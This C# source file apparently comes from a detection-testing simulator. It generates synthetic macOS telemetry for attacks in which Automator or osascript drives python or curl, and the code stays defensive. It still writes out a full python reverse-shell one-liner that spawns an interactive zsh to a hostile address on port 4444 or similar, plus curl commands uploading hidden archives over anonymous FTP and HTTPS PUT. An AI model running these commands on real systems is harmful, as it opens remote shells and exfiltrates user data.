using Vigil.Contracts.Telemetry;
using Vigil.FleetSim.Activities;
using Vigil.FleetSim.Endpoint;
using Vigil.FleetSim.Fleet;

namespace Vigil.FleetSim.Scenarios;

/// <summary>
/// AN1227 attacks: Automator or osascript drive python or curl to a protocol or volume those images never use,
/// with the chain visible through process.parent and process.Ext.effective_parent. Evidence: the anomalous
/// connection's start and end (the end carries the volume).
/// </summary>
internal static class AutomationAbuse
{
    /// <summary>An Automator workflow's shell step runs python3 opening a raw TCP socket to port 4444.</summary>
    public static IEnumerable<TelemetryEvent> AutomatorPythonRawSocket(ActivityContext c)
    {
        var finder = c.Resident(ResidentKind.Finder);
        var (stub, runner) = Automation.AutomatorApplet(c, finder, c.Rng.Pick(new[] { "Invoice Viewer", "PDF Converter", "Photo Resizer" }));
        yield return c.Exec(stub);
        c.WaitMillis(30, 300);
        yield return c.Exec(runner);
        var peer = NetworkPeer.Address(Internet.HostileAddress(c.Rng), c.Rng.Pick(new[] { 4444, 1337, 9001 }));
        var code = $"import socket,subprocess,os;s=socket.socket();s.connect((\"{peer.Ip}\",{peer.Port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/zsh\",\"-i\"])";
        var sh = c.Spawn(runner, Images.Sh, ["/bin/sh", "-c", $"python3 -c '{code}'"], effectiveParent: stub);
        c.WaitMillis(100, 1500);
        yield return c.Exec(sh);
        var python = c.Spawn(sh, Images.Python3, ["python3", "-c", code], effectiveParent: runner);
        c.WaitMillis(2, 20);
        yield return c.Exec(python);
        c.WaitMillis(20, 200);
        var connection = c.Connect(python, peer, "");
        yield return c.Evidence(c.ConnectionAttempted(connection));
        c.WaitSeconds(30, 600);
        yield return c.Evidence(c.Disconnected(connection, c.Rng.Between(20_000L, 2_000_000L), c.Rng.Between(5_000L, 400_000L)));
        yield return c.Exit(python);
        yield return c.Exit(sh);
        yield return c.Exit(runner);
        yield return c.Exit(stub);
        c.Describe($"Automator applet {stub.Executable} runs a shell step; python3 opens a raw TCP socket to {peer.Ip}:{peer.Port}");
    }

    /// <summary>An AppleScript's do shell script runs curl uploading archived documents over FTP.</summary>
    public static IEnumerable<TelemetryEvent> OsascriptCurlFtp(ActivityContext c)
    {
        var peer = NetworkPeer.Address(Internet.HostileAddress(c.Rng), 21);
        var archive = $"/private/tmp/.{c.Rng.Alphanumeric(6)}.zip";
        var size = c.Rng.Between(1_000_000L, 30_000_000L);
        var upload = new[] { "curl", "-s", "-T", archive, $"ftp://{peer.Ip}/pub/", "--user", "anonymous:" };
        foreach (var e in OsascriptDrivesCurl(c, upload, peer, "ftp", size, $"curl uploads {archive} over FTP to {peer.Ip}"))
        {
            yield return e;
        }
    }

    /// <summary>An AppleScript's do shell script runs curl posting tens of megabytes over HTTPS, far above curl's usual volume.</summary>
    public static IEnumerable<TelemetryEvent> OsascriptCurlBulkUpload(ActivityContext c)
    {
        var peer = NetworkPeer.Named(Adversary.Domain(c), 443);
        var size = c.Rng.Between(30_000_000L, 90_000_000L);
        var archive = $"/private/tmp/.{c.Rng.Alphanumeric(6)}.tar.gz";
        var upload = new[] { "curl", "-s", "-X", "PUT", "--data-binary", $"@{archive}", $"https://{peer.Domain}/u/{c.Rng.Alphanumeric(12)}" };
        foreach (var e in OsascriptDrivesCurl(c, upload, peer, "https", size, $"curl posts {size} bytes of {archive} over HTTPS to {peer.Domain}"))
        {
            yield return e;
        }
    }

    private static IEnumerable<TelemetryEvent> OsascriptDrivesCurl(ActivityContext c, string[] curlArgs, NetworkPeer peer, string protocol, long bytes, string what)
    {
        var terminal = c.Resident(ResidentKind.Terminal);
        var zsh = Shells.TerminalZsh(c, terminal);
        var script = $"{c.Home}/Library/Caches/{Adversary.DisguisedName(c)}/run.scpt";
        yield return c.Exec(zsh);
        var osascript = c.Spawn(zsh, Images.Osascript, ["osascript", script]);
        c.WaitMillis(200, 3000);
        yield return c.Exec(osascript);
        c.WaitMillis(5, 60);
        yield return c.LoadScript(osascript, script);
        var sh = c.Spawn(osascript, Images.Sh, ["/bin/sh", "-c", string.Join(' ', curlArgs)], effectiveParent: osascript);
        c.WaitMillis(50, 800);
        yield return c.Exec(sh);
        var curl = c.Spawn(sh, Images.Curl, curlArgs, effectiveParent: osascript);
        c.WaitMillis(2, 20);
        yield return c.Exec(curl);
        if (peer.Domain is not null)
        {
            c.WaitMillis(2, 30);
            yield return c.Lookup(curl, peer.Domain);
        }

        c.WaitMillis(5, 80);
        var connection = c.Connect(curl, peer, protocol);
        yield return c.Evidence(c.ConnectionAttempted(connection));
        c.Wait(Traffic.TransferTime(c, bytes));
        yield return c.Evidence(c.Disconnected(connection, bytes + c.Rng.Between(2_000L, 20_000L), c.Rng.Between(300L, 3_000L)));
        yield return c.Exit(curl);
        yield return c.Exit(sh);
        c.WaitMillis(10, 200);
        yield return c.Exit(osascript);
        yield return c.Exit(zsh);
        c.Describe($"osascript {script} drives a shell: {what}");
    }
}
